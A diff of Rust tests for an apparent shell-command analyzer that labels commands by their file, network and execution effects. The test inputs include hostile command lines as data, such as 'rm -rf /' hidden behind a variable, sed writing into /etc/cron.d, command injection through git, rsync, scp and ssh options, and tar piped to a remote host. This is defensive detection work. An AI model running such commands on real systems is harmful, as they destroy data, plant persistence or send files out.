@@ -1917,7 +1917,7 @@ fn exfiltration_and_writes_are_effects() {
     check("git -c core.sshCommand='sh -c id' fetch origin", &["git -c core.sshCommand=sh -c id fetch origin"], &[], &["git -c"], &[]);
     check("git log --output=/tmp/x", &["git log --output=/tmp/x"], &["W /tmp/x"], &[], &[]);
     check("sed -n 'w /etc/cron.d/x' f", &["sed -n w /etc/cron.d/x f"], &["W /etc/cron.d/x", "R f"], &[], &[]);
-    check("tar -cf - . | ssh host tar -xf -", &["tar -cf - .", "ssh host tar -xf -"], &["Rr ."], &[], &[]);
+    check("tar -cf - . | ssh host tar -xf -", &["tar -cf - .", "ssh host tar -xf -"], &["Rr .", "F tcp://host"], &[], &[]);
     check("IFS=/ ls", &["ls"], &[], &["`IFS`"], &[]);
     check("a=rm; $a -rf /", &["rm -rf /"], &["Wrd /"], &[], &["rm-root"]);
     check("a=$(id); $a -rf /", &["id", "$a -rf /"], &[], &["command name is not literal"], &[]);
@@ -1992,7 +1992,7 @@ fn remote_copies_read_their_sources() {
     check("rsync -e 'sh -c id' a h:b", &["rsync -e sh -c id a h:b"], &["R a", "F ssh://h/b"], &["runs `sh -c id`"], &[]);
     check("rsync -e 'ssh -p 2' a h:b", &["rsync -e ssh -p 2 a h:b"], &["R a", "F ssh://h/b"], &[], &[]);
     check("scp -o ProxyCommand='sh x' a h:b", &["scp -o ProxyCommand=sh x a h:b"], &["R a", "F ssh://h/b"], &["runs a local command"], &[]);
-    check("ssh -o LocalCommand=id -i key h", &["ssh -o LocalCommand=id -i key h"], &["R key"], &["runs a local command"], &[]);
+    check("ssh -o LocalCommand=id -i key h", &["ssh -o LocalCommand=id -i key h"], &["R key", "F tcp://h"], &["runs a local command"], &[]);
     check("man -P 'sh -c id' ls", &["man -P sh -c id ls"], &[], &["`man` option runs a program"], &[]);
 }
 
@@ -2067,6 +2067,18 @@ fn arguments_of_programs_without_a_table_name_files() {
         ["a.txt", "a.txt", "out/new.bin", "a.txt", "a.txt"],
         "{lines:?}"
     );
+    // URLs in any word are fetches it may make.
+    let a = analyze(
+        "mytool --registry=https://r.example/x 'get(\"http://h.example/\")'",
+        &o,
+    );
+    let urls: Vec<&str> = a
+        .effects
+        .iter()
+        .filter(|e| e.origin == Origin::Argument && e.kind == EffectKind::Fetch)
+        .map(|e| e.target.as_str())
+        .collect();
+    assert_eq!(urls, ["https://r.example/x", "http://h.example/"]);
     // A program with an operand table gets none: its operands are known.
     let a = analyze("cat a.txt out/new.bin", &o);
     assert!(a.effects.iter().all(|e| e.origin != Origin::Argument));
